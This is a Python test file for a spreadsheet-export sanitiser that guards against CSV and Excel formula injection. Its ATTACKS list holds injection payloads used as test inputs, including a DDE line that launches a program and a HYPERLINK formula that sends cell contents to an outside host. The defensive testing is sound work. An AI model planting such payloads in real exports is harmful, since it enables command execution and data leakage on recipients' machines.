"""No cell of a download is run as a formula."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from feedback.spreadsheet import BYTE_ORDER_MARK, LONGEST_CELL, csv_lines, safe_cell, safe_row

ATTACKS = [
    '=HYPERLINK("https://example.org/?"&A1,"more")',
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "-5",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "\x01=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\ttext",
    "\rtext",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_what_a_spreadsheet_might_run_gets_an_apostrophe(text):
    cell = safe_cell(text)
    assert cell.startswith("'")
    assert safe_cell(cell) == cell


@pytest.mark.parametrize(
    "text", ["Clear and easy to understand", "p = 0.05", "a-b", "5", "", "café", "'quoted'", "日本"]
)
def test_other_text_stays_as_it_is(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("value", [0, -3, 4.5, -0.25, date(2026, 3, 1)])
def test_numbers_and_dates_stay_numbers_and_dates(value):
    assert safe_cell(value) == value
    assert type(safe_cell(value)) is type(value)


@pytest.mark.parametrize(
    ("value", "wanted"),
    [
        (None, ""),
        (float("nan"), ""),
        (float("inf"), ""),
        (True, "True"),
        (Decimal("-1.5"), "'-1.5"),
        ("a\x00b\x0bc", "abc"),
        ("half \ud83d of a pair", "half  of a pair"),
    ],
)
def test_what_no_cell_can_hold_is_left_out(value, wanted):
    assert safe_cell(value) == wanted


def test_a_cell_is_no_longer_than_excel_allows():
    assert len(safe_cell("=" * 40_000)) == LONGEST_CELL


@given(st.text())
def test_no_text_begins_with_a_sign(text):
    cell = safe_cell(text)
    assert not cell.lstrip().startswith(("=", "+", "-", "@"))
    cell.encode("utf-8")


def test_csv_holds_every_cell_and_no_formula():
    lines = list(
        csv_lines(["Statement", "n"], [["=1+1", -4], ['a "b", c;=1', 2.5], ["é\nf", None]])
    )
    assert len(lines) == 4
    text = "".join(lines)
    assert text.startswith(BYTE_ORDER_MARK)
    assert text.endswith("\r\n")
    read = list(csv.reader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK), newline="")))
    assert read == [["Statement", "n"], ["'=1+1", "-4"], ['a "b", c;=1', "2.5"], ["é\nf", ""]]


def test_csv_takes_a_row_only_when_it_is_asked_for():
    taken = []

    def rows():
        for number in range(1_000_000):
            taken.append(number)
            yield [number]

    lines = csv_lines(["number"], rows())
    next(lines)
    assert taken == []
    assert next(lines) == "0\r\n"
    assert taken == [0]


def test_no_cell_of_a_workbook_is_a_formula():
    book = Workbook(write_only=True)
    sheet = book.create_sheet()
    for attack in ATTACKS:
        sheet.append(safe_row([attack, -3, None]))
    file = io.BytesIO()
    book.save(file)
    for row in load_workbook(file).active.iter_rows():
        assert row[0].data_type == "s"
        assert row[0].value.startswith("'")
        assert (row[1].data_type, row[1].value) == ("n", -3)
